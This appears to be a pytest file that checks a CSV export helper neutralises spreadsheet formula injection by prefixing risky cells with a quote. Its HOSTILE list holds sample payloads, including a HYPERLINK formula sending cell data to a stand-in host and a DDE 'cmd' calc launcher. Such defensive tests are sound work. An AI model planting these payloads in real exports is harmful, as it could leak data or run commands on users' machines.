"""Spreadsheet-safe CSV: text that a spreadsheet would run as a formula is written as text; numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from qadesk.core.exports import csv_dict_writer, csv_writer, spreadsheet_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_prefixes_formula_text_with_a_quote(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, -3, Decimal("-0.5"), 0, True, "Milano", "a=b", "", " =1"])
def test_it_leaves_numbers_and_plain_text_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value


def test_it_writes_none_as_an_empty_cell_and_rows_through_both_writers() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["label", "change"])
    writer.writerows([["=1+1", -20.0], [None, 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["label", "change"], ["'=1+1", "-20.0"], ["", "3"]]
    out = io.StringIO()
    dict_writer = csv_dict_writer(out, ["name", "alpha"])
    dict_writer.writeheader()
    dict_writer.writerows([{"name": "@x", "alpha": -0.25}, {"name": "ok", "alpha": None}])
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [{"name": "'@x", "alpha": "-0.25"}, {"name": "ok", "alpha": ""}]


def test_no_module_writes_csv_without_the_safe_writers() -> None:
    """Every CSV export goes through qadesk.core.exports (a new raw csv.writer would bypass the formula guard)."""
    root = Path(__file__).resolve().parents[2]
    raw = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts and path.name != "exports.py" and raw.search(path.read_text())
    ]
    assert offenders == []
